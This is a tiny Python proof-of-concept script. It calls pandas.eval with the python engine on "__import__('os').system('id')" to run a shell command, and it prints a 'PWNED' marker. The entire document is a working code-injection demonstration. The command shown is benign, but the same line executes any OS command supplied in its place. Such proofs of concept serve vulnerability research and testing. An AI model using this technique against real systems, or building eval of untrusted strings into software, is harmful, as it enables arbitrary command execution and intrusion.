import pandas as pd
print("PW" + "NED:", pd.eval("__import__('os').system('id')", engine="python"))
